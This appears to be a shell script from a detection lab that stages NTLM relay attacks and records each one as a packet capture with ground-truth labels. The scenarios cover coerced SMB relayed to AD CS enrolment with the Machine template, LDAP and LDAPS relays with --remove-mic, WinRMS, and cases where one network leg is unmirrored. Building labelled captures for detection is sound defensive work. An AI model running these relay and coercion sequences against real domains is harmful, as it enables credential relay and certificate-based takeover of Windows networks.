# Relays of which only one leg can be read: one function records one capture.

scenario_one_leg_https_adcs() {
  callback_with libsmbclient
  record one_leg_https_adcs
  relay_on smb -t "https://$CA/certsrv/certfnsh.asp" --adcs --template Machine
  efs_call
  sleep 4
  truth "${RELAY[@]}" target=$CA "${COERCED_SMB[@]}" expect=one-leg:smb-http "$IMPACKET_TOOLS" \
    notes="The target leg is TLS: of the relay only the victim's leg is readable, with a challenge that names CA1 although it comes from another address. The certificate is issued, invisibly."
}

scenario_one_leg_https_channel_binding() {
  touch "$RUN/channel_binding"
  record one_leg_https_channel_binding
  relay_on smb -t "https://$CA/certsrv/certfnsh.asp" --adcs --template Machine
  machine_smb $EVIL
  sleep 3
  truth "${RELAY[@]}" target=$CA expect=one-leg:smb-http "$IMPACKET_TOOLS" \
    notes="The web server wants the logon bound to its TLS channel and refuses. On the wire the same as a success."
  rm -f "$RUN/channel_binding"
}

tls_in_front() {
  "$HERE/in_host" evil "$CLIENTS/python" "$HERE/sicily.py" - $EVIL $DC tls > "$RUN/sasl.log" 2>&1 &
  HELPER=$!
  wait_for_port evil 389
}

scenario_one_leg_ldaps() {
  record one_leg_ldaps
  tls_in_front
  relay_on http -t "ldap://$EVIL" "${LDAP_QUIET[@]}"
  user_http "http://$EVIL/index.html"
  sleep 3
  truth "${USER_RELAY[@]}" target=$DC expect=one-leg:http-ldap "$CURL_TOOLS" \
    notes="A user's web logon goes to LDAPS. The relay tool's Sicily is turned into SASL inside TLS on the attacker's own host."
}

scenario_one_leg_ldaps_coerced() {
  callback_with impacket
  record one_leg_ldaps_coerced
  tls_in_front
  relay_on smb -t "ldap://$EVIL" "${LDAP_QUIET[@]}" --remove-mic
  efs_call
  sleep 3
  truth "${RELAY[@]}" target=$DC "${COERCED_SMB[@]}" expect=one-leg:smb-ldap "$IMPACKET_TOOLS" \
    notes="Coerced, relayed to LDAPS of the domain controller. What was stripped cannot be seen."
}

scenario_one_leg_winrms() {
  record one_leg_winrms
  relay_on smb -t "winrms://$CA"
  machine_smb $EVIL
  sleep 3
  truth "${RELAY[@]}" target=$CA expect=one-leg:smb-winrm "$IMPACKET_TOOLS" notes="WinRM in TLS, port 5986."
}

scenario_one_leg_target_off_mirror() {
  callback_with libsmbclient
  record one_leg_target_off_mirror '(tcp or udp) and not host' $FILES
  relay_on smb -t "smb://$FILES"
  efs_call
  sleep 3
  truth "${RELAY[@]}" target=$FILES "${COERCED_SMB[@]}" expect=one-leg:smb-smb "$IMPACKET_TOOLS" \
    notes="The target's switch port is not mirrored: call and callback are there, and a challenge that names FILES1."
}

scenario_one_leg_target_off_mirror_webdav() {
  record one_leg_target_off_mirror_webdav '(tcp or udp) and not host' $DC
  relay_on http -t "ldap://$DC" "${LDAP_QUIET[@]}"
  machine_webdav $EVIL
  sleep 3
  truth "${RELAY[@]}" target=$DC expect=one-leg:webdav-ldap expect=webdav "$CURL_TOOLS" \
    notes="A WebDAV logon with a challenge of the domain controller, which is not mirrored."
}

scenario_one_leg_victim_off_mirror() {
  callback_with libsmbclient
  record one_leg_victim_off_mirror '(tcp or udp) and not host' $SRV
  relay_on smb -t "smb://$FILES"
  efs_call
  sleep 3
  truth malicious=yes calls='not mirrored' attacker=$EVIL also=victim:$SRV target=$FILES family=relay expect=one-leg:smb-smb expect=foreign-machine:smb "$IMPACKET_TOOLS" \
    notes="The victim is not mirrored: a machine account, SRV1, logs on from an address that is not that machine."
}

scenario_one_leg_victim_off_mirror_adcs() {
  callback_with libsmbclient
  record one_leg_victim_off_mirror_adcs '(tcp or udp) and not host' $SRV
  relay_on smb -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine
  efs_call
  sleep 4
  truth malicious=yes calls='not mirrored' attacker=$EVIL also=victim:$SRV target=$CA family=relay expect=one-leg:smb-http expect=foreign-machine:http expect=adcs-enrollment "$IMPACKET_TOOLS" \
    notes="Only the target leg: a machine account enrols on the web pages from somewhere else, with a client that loads no page before the form."
}

scenario_one_leg_victim_off_mirror_ldap() {
  callback_with impacket
  record one_leg_victim_off_mirror_ldap '(tcp or udp) and not host' $SRV
  relay_on smb -t "ldap://$DC" "${LDAP_QUIET[@]}" --remove-mic
  efs_call
  sleep 3
  truth malicious=yes calls='not mirrored' attacker=$EVIL also=victim:$SRV target=$DC family=relay expect=one-leg:smb-ldap expect=foreign-machine:ldap "$IMPACKET_TOOLS" \
    notes="Only the target leg: a machine account binds to LDAP from an address that is not that machine."
}
